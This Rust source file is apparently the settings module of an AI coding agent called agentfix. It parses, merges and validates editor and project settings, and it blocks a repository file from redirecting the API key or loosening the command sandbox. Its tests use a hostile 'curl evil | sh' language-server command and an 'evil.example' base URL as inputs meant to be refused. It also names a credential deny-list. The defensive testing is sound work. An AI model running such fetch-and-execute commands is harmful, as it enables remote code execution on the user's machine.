//! The wire settings: `Settings`, what the editor (camelCase JSON) and
//! agentfix.toml give, every field optional, with its JSON Schema
//! (schemars, committed as `agentfix.schema.json`); reading JSON and TOML
//! (agentfix.toml refused what it may not set), merging, and the warnings
//! about misspelt keys (named with the closest setting by edit distance, a
//! warning and never an error: unknown keys stay accepted for forward
//! compatibility; in editor settings only keys close to a setting, and never
//! the plugins' own `EDITOR_KEYS`).

use std::path::{Path, PathBuf};

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::commands::CommandEntry;
use super::downstream::ServerConfig;
use super::limits::{ContextEditing, PartialEdits};
use super::mcp::McpServerSettings;
use super::provider::{Effort, ProviderKind};
use super::{ConfigError, FILE_NAME};

/// agentfix settings, as the editor (camelCase JSON) or `agentfix.toml`
/// gives them. Every field is optional; unknown fields are ignored.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, JsonSchema)]
#[serde(rename_all = "camelCase", default)]
#[schemars(title = "agentfix settings")]
pub struct Settings {
    /// Model API: `anthropic` (default), `openai`, or `openai-compatible` (Ollama, llama.cpp, vLLM, LM Studio).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub provider: Option<ProviderKind>,
    /// Model id (default: a current Claude Sonnet for anthropic, gpt-4.1 for openai).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub model: Option<String>,
    /// How hard the model thinks before it answers: `low`, `medium` or `high`; unset by default (no thinking asked for). Anthropic: an extended thinking budget of 2048, 8192 or 24576 tokens on top of `maxOutputTokens`, for the models that have it (`claude-sonnet-4*`, `claude-opus-4*`, `claude-haiku-4-5`, `claude-3-7-sonnet`; ignored for others, with a warning). OpenAI: `reasoning_effort` for reasoning models (o1, o3, o4-mini, gpt-5*; ignored for others such as gpt-4.1 and gpt-4o, with a warning). OpenAI-compatible servers: sent as `reasoning_effort`, which a server that does not know it ignores. Thinking tokens are billed as output tokens.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub effort: Option<Effort>,
    /// API base URL. Anthropic: without `/v1`; OpenAI and compatible servers: with `/v1`. Required for openai-compatible. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub base_url: Option<String>,
    /// Model requests per run at most (default 40).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1))]
    pub max_turns: Option<u32>,
    /// Billed-equivalent tokens per run at most (default 2000000): input and output at 1, cache reads at 0.1, cache writes at 1.25. A hard bound: a request that could pass it is not sent, the last ones ask for no more output than is left, and the closing summary is skipped when it would not fit.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max_tokens: Option<u64>,
    /// `max_tokens` of each model request (default 8192).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1))]
    pub max_output_tokens: Option<u32>,
    /// Prompt tokens of one model request at most, estimated before it is sent (default 100000; never above the known window of the model). Past about 80 % of it, the outputs of older tool calls are replaced by a one-line stub (see `contextEditing`), then older turns are summarised by the model; a request that would still not fit is not sent and the run stops with `context_budget`.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1))]
    pub context_budget: Option<u64>,
    /// When the outputs of older tool calls are replaced by a one-line stub: `economy` (default) as soon as carrying them has cost what rewriting the prompt cache costs, keeping the newest whole (up to three, within 8,000 tokens), and near `contextBudget`; `budget` only near `contextBudget`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub context_editing: Option<ContextEditing>,
    /// US dollars per run at most, at the model's price (see `prices`); unset by default. A hard bound like `maxTokens`: a request that could pass it is not sent, and the run stops with `cost_budget`. Needs a known price for the model.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 0.0))]
    pub max_cost_usd: Option<f64>,
    /// Wall-clock limit of a run in seconds (default 300).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeout_secs: Option<u64>,
    /// Retries of a failed model request (default 2).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max_retries: Option<u32>,
    /// Connection timeout of a model request in seconds (default 10).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub connect_timeout_secs: Option<u64>,
    /// Longest silence of a streaming response in seconds before it counts as stalled (default 90).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub idle_timeout_secs: Option<u64>,
    /// Anthropic only: count the prompt of each model request exactly with the API's free `count_tokens` endpoint (one extra request per model request, nothing generated), which makes the context budget exact instead of estimated (default false).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub count_tokens: Option<bool>,
    /// Edits of a run that a limit stopped: `offer` them for review (default) or `discard` them.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub partial_edits: Option<PartialEdits>,
    /// Directory for run transcripts (default: the user cache directory, agentfix/transcripts).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub transcript_dir: Option<PathBuf>,
    /// Write a JSONL transcript of every run (default true).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub transcripts: Option<bool>,
    /// Language servers by language id (`python`, `rust`, `typescript`, `c`, `go`, …). Unset languages use the defaults found on PATH. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub language_servers: Option<std::collections::BTreeMap<String, ServerConfig>>,
    /// Commands the model may run with `run_command`, by name: `{"test": ["cargo", "test", "-q"], "lint": {"command": ["ruff", "check", "."], "timeoutSecs": 60}, "autoApprove": false}`. They run in a scratch copy of the workspace with the run's edits applied; the user is asked before the first run of each (Allow once / Always in this workspace / Deny) unless `autoApprove` is true. On Linux they run in a sandbox (user, mount, PID, IPC, UTS and network namespaces, seccomp, Landlock): they see the system and their toolchains read-only, write only in the copy, a private temporary directory and the build cache, see no other file of yours, and reach no network; `"sandbox": "off"` turns the sandbox off (where the system cannot provide it, commands are refused until you do), `"network": true` keeps the host's network, `"readPaths": ["/data/models"]` lets them read more directories, `"limits": {"addressSpaceMb": 16384, "processes": 4096, "fileSizeMb": 8192, "cpuSecs": 3600, "openFiles": 8192}` sets resource limits. `autoApprove`, `sandbox`, `network`, `readPaths` and `limits` are not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub commands: Option<std::collections::BTreeMap<String, CommandEntry>>,
    /// Start the default language servers found on PATH for languages not in `languageServers` (default true).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub default_language_servers: Option<bool>,
    /// Quiet time in milliseconds after a language server's last diagnostics before they count as settled (default 300).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub diagnostics_settle_ms: Option<u64>,
    /// Longest wait in milliseconds for a language server's diagnostics after an edit (default 5000).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub diagnostics_timeout_ms: Option<u64>,
    /// Longest wait in milliseconds for a language server's answer to one query (default 20000); a server that does not answer is restarted once.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub language_server_timeout_ms: Option<u64>,
    /// More protected files, as gitignore-style patterns (`secrets/`, `*.sqlite`), added to the built-in deny-list (`.env`, `*.pem`, `.ssh/`, …), which cannot be removed. The model can never read, list, search or edit a protected file. agentfix.toml may add patterns too.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub exclude: Option<Vec<String>>,
    /// Environment variables (exact names or `*` patterns: `NPM_TOKEN`, `MY_*`) that children get although agentfix would keep them back: commands and MCP servers get only a built-in list of variables that carry no secret (PATH, HOME, the locale, the toolchains') plus these; language servers get the environment without credential-shaped variables, unless named here. The provider keys never. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub env_allow: Option<Vec<String>>,
    /// List prices in US dollars per million tokens, by model id prefix (the longest match wins): `{"my-model": {"input": 1.0, "output": 4.0, "cacheRead": 0.1, "cacheWrite": 1.25}}`. Adds to or overrides the built-in prices of current Anthropic and OpenAI models; a model with no price shows tokens only.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub prices: Option<std::collections::BTreeMap<String, crate::pricing::Price>>,
    /// Put the repository's instructions for coding agents in the system prompt (default true): `AGENTS.md` and `CLAUDE.md` at the workspace root and in every folder down to the file being fixed (nearest last), `.github/copilot-instructions.md`, and the `.cursor/rules` that apply to the file; at most 16 KB of each and 32 KB in all, read through the same confinement as the tools (protected files are never read). The model follows them unless they conflict with the user's request. agentfix.toml may set it too (the repository's own choice).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub project_instructions: Option<bool>,
    /// The size of one tool result at most, in bytes, by tool name (default 102400 for every tool): `{"read_file": 20000, "run_command": 8000}`. A longer result is cut at a line break with a note telling the model how to ask for the rest. Lower limits keep long fixes cheaper.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub tool_output_limits: Option<std::collections::BTreeMap<String, usize>>,
    /// MCP tool servers, by name, in the shape other agents use: `{"github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"], "env": {"GITHUB_TOKEN": "…"}, "autoApprove": ["search_issues"], "timeoutSecs": 60}}`. Stdio servers only (entries without `command` are skipped). Their tools are offered to the model as `mcp__<server>__<tool>`; tools marked read-only (`readOnlyHint`) run without asking, the others ask first unless named in `autoApprove`. Servers start at the first run that needs them, get the environment without credentials plus their own `env`, and stop when agentfix exits. Not allowed in agentfix.toml.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub mcp_servers: Option<std::collections::BTreeMap<String, McpServerSettings>>,
}

impl Settings {
    /// Reads settings from a JSON value; `{ "agentfix": {…} }` is unwrapped.
    /// A malformed value is an error that names the field.
    pub fn from_json(v: &Value) -> Result<Self, ConfigError> {
        if v.is_null() {
            return Ok(Self::default());
        }
        let v = v.get("agentfix").unwrap_or(v);
        if v.is_null() {
            return Ok(Self::default());
        }
        serde_json::from_value(v.clone()).map_err(|e| ConfigError::Invalid(format!("invalid agentfix settings: {e}")))
    }

    /// Reads `agentfix.toml` text. `provider` and `baseUrl` are refused.
    pub fn from_toml(text: &str) -> Result<Self, ConfigError> {
        let s: Settings =
            toml::from_str(text).map_err(|e| ConfigError::Invalid(format!("invalid {FILE_NAME}: {e}")))?;
        if s.base_url.is_some() || s.provider.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `provider` or `baseUrl` (a repository must not choose where your API key is sent); set them in the editor or the environment"
            )));
        }
        if s.commands.as_ref().is_some_and(|c| c.contains_key("autoApprove")) {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `commands.autoApprove` (a repository must not approve its own commands); set it in the editor settings"
            )));
        }
        for key in ["sandbox", "network", "readPaths", "limits"] {
            if s.commands.as_ref().is_some_and(|c| c.contains_key(key)) {
                return Err(ConfigError::Invalid(format!(
                    "{FILE_NAME} may not set `commands.{key}` (a repository must not loosen the sandbox of its own commands); set it in the editor settings"
                )));
            }
        }
        if s.env_allow.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `envAllow` (a repository must not choose which of your credentials its commands see); set it in the editor settings"
            )));
        }
        if s.language_servers.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `languageServers` (a repository must not choose what programs agentfix runs); set them in the editor settings"
            )));
        }
        if s.mcp_servers.is_some() {
            return Err(ConfigError::Invalid(format!(
                "{FILE_NAME} may not set `mcpServers` (a repository must not choose what programs agentfix runs or what tools the model gets); set them in the editor settings"
            )));
        }
        Ok(s)
    }

    /// The keys that are settings (camelCase), from the schema.
    pub fn known_keys() -> Vec<String> {
        let schema = Self::json_schema();
        schema["properties"].as_object().map(|p| p.keys().cloned().collect()).unwrap_or_default()
    }

    /// Warnings about the keys of `v` (an object; `{ "agentfix": {…} }` is
    /// unwrapped) that are not settings, each naming the key and the known
    /// one closest to it. Unknown keys stay accepted (editors keep their own
    /// keys in the same section, and newer settings must not break older
    /// servers), so this warns and never refuses. With `editor`, only keys
    /// close to a known one, and not one of [`EDITOR_KEYS`], are named: the
    /// others are the editor's own. Without it (agentfix.toml,
    /// which is agentfix's alone) every unknown key is.
    pub fn unknown_keys(v: &Value, editor: bool) -> Vec<String> {
        let v = v.get("agentfix").unwrap_or(v);
        let Some(map) = v.as_object() else { return Vec::new() };
        let known = Self::known_keys();
        let mut out = Vec::new();
        let editors_own = |k: &str| editor && EDITOR_KEYS.contains(&k);
        for key in map.keys().filter(|k| !known.contains(k) && !editors_own(k)) {
            match closest_key(key, &known) {
                Some(near) => out.push(format!("unknown key `{key}` (did you mean `{near}`?); it is ignored")),
                None if !editor => out.push(format!(
                    "unknown key `{key}` (no setting has a name like it: see `agentfix schema`); it is ignored"
                )),
                None => {}
            }
        }
        out
    }

    /// Warnings about `root`'s agentfix.toml: its unknown keys (see
    /// [`Settings::unknown_keys`]), each starting with the file's name.
    /// None when the file is missing or unreadable (loading it says why).
    pub fn file_warnings(root: &Path) -> Vec<String> {
        let Ok(text) = std::fs::read_to_string(root.join(FILE_NAME)) else { return Vec::new() };
        let Ok(table) = toml::from_str::<toml::Table>(&text) else { return Vec::new() };
        let value = serde_json::to_value(table).unwrap_or_default();
        Self::unknown_keys(&value, false).into_iter().map(|w| format!("{FILE_NAME}: {w}")).collect()
    }

    /// `agentfix.toml` in `root`, if present.
    pub fn load_file(root: &Path) -> Result<Option<Self>, ConfigError> {
        let path = root.join(FILE_NAME);
        match std::fs::read_to_string(&path) {
            Ok(text) => Self::from_toml(&text).map(Some),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(ConfigError::Invalid(format!("cannot read {}: {e}", path.display()))),
        }
    }

    /// `other` wins where it has a value.
    pub fn merged(&self, other: &Settings) -> Settings {
        let mut base = serde_json::to_value(self).unwrap_or_default();
        if let (Some(b), Value::Object(o)) = (base.as_object_mut(), serde_json::to_value(other).unwrap_or_default()) {
            for (k, v) in o {
                if !v.is_null() {
                    b.insert(k, v);
                }
            }
        }
        serde_json::from_value(base).unwrap_or_default()
    }

    /// The JSON Schema of the settings (committed as `agentfix.schema.json`).
    pub fn json_schema() -> Value {
        serde_json::to_value(schemars::schema_for!(Settings)).unwrap_or_default()
    }
}

/// Keys the editor plugins here keep in the `agentfix` section for
/// themselves (VS Code's `agentfix.serverPath`, `agentfix.models`,
/// `agentfix.trace.server`): never warned about in editor settings.
const EDITOR_KEYS: &[&str] = &["serverPath", "models", "trace"];

/// The known key a misspelt `key` most likely meant: the same letters but
/// for case, `_` and `-` (`max_turns`), a prefix of one (`timeout` for
/// `timeoutSecs`), or within a few edits (`maxTurn`, `contextEdting`).
fn closest_key<'a>(key: &str, known: &'a [String]) -> Option<&'a str> {
    let plain = |s: &str| s.chars().filter(|c| *c != '_' && *c != '-').collect::<String>().to_lowercase();
    let wanted = plain(key);
    if wanted.is_empty() {
        return None;
    }
    let limit = (wanted.chars().count() / 4).max(2);
    known
        .iter()
        .map(|k| {
            let candidate = plain(k);
            let edits = edit_distance(&wanted, &candidate);
            // A prefix counts as one edit; among equals, the fewest real edits.
            let prefix = candidate.starts_with(&wanted) && wanted.len() >= 4;
            (if prefix { edits.min(1) } else { edits }, edits, k)
        })
        .filter(|(d, _, _)| *d <= limit)
        .min_by_key(|(d, edits, _)| (*d, *edits))
        .map(|(_, _, k)| k.as_str())
}

/// Levenshtein distance in characters.
fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut diagonal = row[0];
        row[0] = i + 1;
        for (j, cb) in b.iter().enumerate() {
            let above = row[j + 1];
            row[j + 1] = (above + 1).min(row[j] + 1).min(diagonal + usize::from(ca != *cb));
            diagonal = above;
        }
    }
    row[b.len()]
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn misspelt_keys_are_named_with_the_closest_setting_and_still_accepted() {
        let file = json!({"maxTurn": 5, "max_tokens": 9, "timeout": 3, "transcript": false, "zzz": 1, "model": "m"});
        let warnings = Settings::unknown_keys(&file, false);
        assert_eq!(
            warnings,
            vec![
                "unknown key `maxTurn` (did you mean `maxTurns`?); it is ignored",
                "unknown key `max_tokens` (did you mean `maxTokens`?); it is ignored",
                "unknown key `timeout` (did you mean `timeoutSecs`?); it is ignored",
                "unknown key `transcript` (did you mean `transcripts`?); it is ignored",
                "unknown key `zzz` (no setting has a name like it: see `agentfix schema`); it is ignored",
            ]
        );
        // From an editor, keys like no setting are the editor's own.
        let editor =
            json!({"agentfix": {"serverPath": "/bin/agentfix", "models": [], "trace": {}, "partialEdit": "offer"}});
        assert_eq!(
            Settings::unknown_keys(&editor, true),
            vec!["unknown key `partialEdit` (did you mean `partialEdits`?); it is ignored"]
        );
        // Still accepted: a warning, not an error.
        assert_eq!(Settings::from_json(&editor).unwrap(), Settings::default());
        assert_eq!(Settings::from_toml("maxTurn = 5\nmaxTurns = 6\n").unwrap().max_turns, Some(6));
        assert!(Settings::unknown_keys(&json!({"maxTurns": 1, "commands": {}}), false).is_empty());
    }

    #[test]
    fn agentfix_toml_warnings_name_the_file() {
        let dir = tempfile::tempdir().unwrap();
        assert!(Settings::file_warnings(dir.path()).is_empty());
        std::fs::write(dir.path().join(FILE_NAME), "maxTurn = 5\n").unwrap();
        assert_eq!(
            Settings::file_warnings(dir.path()),
            vec!["agentfix.toml: unknown key `maxTurn` (did you mean `maxTurns`?); it is ignored"]
        );
    }

    #[test]
    fn the_project_file_cannot_redirect_the_key() {
        let e = Settings::from_toml("baseUrl = \"https://evil.example\"").unwrap_err();
        assert!(e.to_string().contains("may not set `provider` or `baseUrl`"), "{e}");
        assert!(Settings::from_toml("provider = \"openai\"").is_err());
        let e = Settings::from_toml("[languageServers.python]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n")
            .unwrap_err();
        assert!(e.to_string().contains("may not set `languageServers`"), "{e}");
        assert!(Settings::from_toml("maxTurns = \"x\"").unwrap_err().to_string().starts_with("invalid agentfix.toml"));
    }

    #[test]
    fn merged_settings_prefer_the_newer_source() {
        let a = Settings { model: Some("a".into()), max_turns: Some(1), ..Default::default() };
        let b = Settings { model: Some("b".into()), partial_edits: Some(PartialEdits::Discard), ..Default::default() };
        let m = a.merged(&b);
        assert_eq!(
            (m.model.as_deref(), m.max_turns, m.partial_edits),
            (Some("b"), Some(1), Some(PartialEdits::Discard))
        );
    }

    #[test]
    fn the_committed_json_schema_matches_the_settings_type() {
        let committed: Value =
            serde_json::from_str(include_str!("../../agentfix.schema.json")).expect("agentfix.schema.json is JSON");
        assert_eq!(
            committed,
            Settings::json_schema(),
            "agentfix.schema.json is stale: regenerate it with `cargo run -- schema > agentfix.schema.json`"
        );
    }
}
